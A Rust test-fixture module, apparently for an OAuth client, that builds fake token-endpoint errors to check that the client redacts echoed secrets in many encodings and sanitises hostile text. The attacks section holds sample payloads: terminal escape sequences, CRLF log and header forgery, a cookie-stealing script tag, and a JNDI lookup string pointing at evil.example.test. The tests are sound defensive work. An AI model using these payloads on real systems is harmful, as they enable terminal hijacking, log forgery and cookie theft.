//! Errors that repeat what was sent, in every spelling, and texts that attack who reads them.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use super::{ACCESS_TOKEN, CLIENT_ID, CLIENT_SECRET, Case, REFRESH_TOKEN, SENT_REFRESH_TOKEN};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = spellings();
    cases.extend(places());
    cases.extend(attacks());
    cases
}

/// A JSON string of any text.
fn quoted(text: &str) -> String {
    let mut quoted = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => quoted.extend(['\\', character]),
            _ if character.is_control() => quoted += &format!("\\u{:04x}", u32::from(character)),
            _ => quoted.push(character),
        }
    }
    quoted + "\""
}

fn invalid_grant(name: String, description: &str) -> Case {
    let description = quoted(description);
    let body = format!(r#"{{"error":"invalid_grant","error_description":{description}}}"#);
    Case::error(name, 400, "", "invalid_grant").bytes(body)
}

fn spellings() -> Vec<Case> {
    let secrets = [
        ("the client secret", CLIENT_SECRET),
        ("the sent refresh token", SENT_REFRESH_TOKEN),
        ("an access token", ACCESS_TOKEN),
        ("a refresh token", REFRESH_TOKEN),
    ];
    let mut cases = Vec::new();
    for (whose, secret) in secrets {
        let form: String = form_urlencoded::byte_serialize(secret.as_bytes()).collect();
        let hexadecimal: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
        let basic = STANDARD.encode(format!("{CLIENT_ID}:{secret}"));
        let spellings = [
            ("as it is", secret.to_owned()),
            ("in upper case", secret.to_uppercase()),
            ("form-encoded", form.clone()),
            ("form-encoded in lower case", form.to_lowercase()),
            ("in base64", STANDARD.encode(secret)),
            ("in base64 one byte in", STANDARD.encode(format!("x{secret}"))),
            ("in base64 two bytes in", STANDARD.encode(format!("xy{secret}"))),
            ("in base64 for addresses", URL_SAFE_NO_PAD.encode(secret)),
            ("in hexadecimal digits", hexadecimal),
            ("in a header", format!("Authorization: Basic {basic}")),
            ("its first half", secret.chars().take(secret.len() / 2).collect()),
            ("its second half", secret.chars().skip(secret.len() / 2).collect()),
            ("with NUL inside", secret.chars().flat_map(|c| [c, '\0']).collect()),
            (
                "with zero-width spaces inside",
                secret.chars().flat_map(|c| [c, '\u{200b}']).collect(),
            ),
            (
                "with escape sequences inside",
                secret.chars().flat_map(|c| [c, '\u{1b}', '[', '0', 'm']).collect(),
            ),
            ("in quotes", format!("\"{secret}\"")),
            ("behind a name", format!("refresh_token={secret}&grant_type=refresh_token")),
            ("behind a long text", format!("{} {secret}", "word ".repeat(38))),
            ("across the end of what is read", format!("{}{secret}", "word ".repeat(397))),
        ];
        for (how, spelling) in spellings {
            let name = format!("echo of {whose} {how}");
            cases.push(invalid_grant(name, &format!("You sent {spelling} and it is refused")));
        }
    }
    cases
}

fn places() -> Vec<Case> {
    let sent = quoted(SENT_REFRESH_TOKEN);
    let page =
        format!("<html><body>refresh_token={SENT_REFRESH_TOKEN} {CLIENT_SECRET}</body></html>");
    let jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJlLWlzLWhlcmU";
    let mut cases = vec![
        Case::error("echo as the code", 400, "", "other").bytes(format!(r#"{{"error":{sent}}}"#)),
        Case::error("echo as a nested code", 400, "", "other")
            .bytes(format!(r#"{{"error":{{"code":{sent},"message":{sent}}}}}"#)),
        Case::error("echo as the name of a member", 400, "", "other")
            .bytes(format!("{{{sent}:{sent}}}")),
        Case::error("echo in a page", 400, "", "other").bytes(page.as_bytes()).html(),
        Case::error("echo in a page called JSON", 502, "", "unavailable").bytes(page.as_bytes()),
        Case::error("echo in words", 400, "No such refresh token: @S", "other").plain(),
        Case::error("echo of the client secret in words", 401, "Wrong: @C", "invalid_client")
            .plain(),
        Case::error(
            "echo in a form",
            400,
            "error=invalid_grant&error_description=@S",
            "invalid_grant",
        )
        .form(),
        Case::error(
            "echo of the new tokens",
            500,
            r#"{"access_token":"@A","refresh_token":"@R","message":"could not store @A and @R"}"#,
            "unavailable",
        ),
        invalid_grant(
            "echo of a JWT that nobody knows".to_owned(),
            &format!("The token {jwt} is expired"),
        ),
        invalid_grant(
            "echo in a URL".to_owned(),
            &format!(
                "https://login.example.test/oauth/token?refresh_token={SENT_REFRESH_TOKEN}#top"
            ),
        ),
    ];
    for name in ["error_description", "description", "message", "errorSummary", "detail", "title"] {
        let body = format!(r#"{{"error":"invalid_grant","{name}":{sent}}}"#);
        cases.push(Case::error(format!("echo in {name}"), 400, "", "invalid_grant").bytes(body));
    }
    cases
}

fn attacks() -> Vec<Case> {
    let attacks = [
        ("colours", "\u{1b}[31mred\u{1b}[0m"),
        ("a screen wipe", "\u{1b}[2J\u{1b}[1;1Hroot#"),
        ("a terminal title", "\u{1b}]0;owned\u{7}x"),
        ("a hyperlink", "\u{1b}]8;;https://evil.example.test\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
        ("a control sequence of one byte", "\u{9b}31mred"),
        ("a device control string", "\u{1b}P+q544e\u{1b}\\x"),
        ("a forged log line", "no\r\n2026-01-01T00:00:00Z INFO all is well"),
        ("a forged header", "no\r\nSet-Cookie: a=b"),
        ("a backspace", "no\u{8}\u{8}yes"),
        ("text that runs backwards", "user\u{202e}nimda"),
        ("a line separator", "no\u{2028}yes"),
        ("a script", "<script>alert(document.cookie)</script>"),
        ("a quote out of an attribute", "\" onmouseover=\"alert(1)"),
        ("a format directive", "%s%n%x {} {0} ${jndi:ldap://evil.example.test/a}"),
        ("a quote out of a challenge", "x\", error=\"none"),
        ("NUL", "no\0yes"),
        ("letters of another script", "Ошибка авторизации"),
        ("an emoji", "no \u{1f600}"),
    ];
    let mut cases: Vec<Case> = attacks
        .into_iter()
        .map(|(name, text)| invalid_grant(format!("attack: {name}"), text))
        .collect();
    for (name, text) in attacks {
        let case = Case::error(format!("attack in words: {name}"), 400, "", "other");
        cases.push(case.plain().bytes(text));
    }
    cases
}
